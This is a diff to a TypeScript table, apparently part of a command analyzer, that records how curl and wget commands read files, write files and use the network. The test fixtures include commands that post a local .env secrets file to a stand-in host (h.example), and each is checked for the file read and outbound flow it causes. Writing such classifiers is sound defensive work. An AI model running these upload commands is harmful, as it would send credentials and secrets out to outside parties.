@@ -10,7 +10,10 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "url*",
     fetches: true,
-    also: [{ has: ["-K"], unknown: "opaque-file" }],
+    also: [
+      { has: ["-K"], unknown: "opaque-file" },
+      { has: ["-O", "--remote-name-all"], downloads: true },
+    ],
     tests: [
       { run: "curl -s https://h.example/x", network: ["in https://h.example/x"] },
       { run: "curl -d @.env https://h.example", reads: ["./.env"], network: ["both https://h.example < ./.env"] },
@@ -33,7 +36,7 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ],
     tests: [
       { run: "wget -O - https://h.example", network: ["in https://h.example"] },
-      { run: "wget --post-file=.env https://h.example", reads: ["./.env"], network: ["both https://h.example < ./.env"] },
+      { run: "wget --post-file=.env https://h.example", writes: ["./index.html"], reads: ["./.env"], network: ["both https://h.example < ./.env"] },
     ],
   },
   {
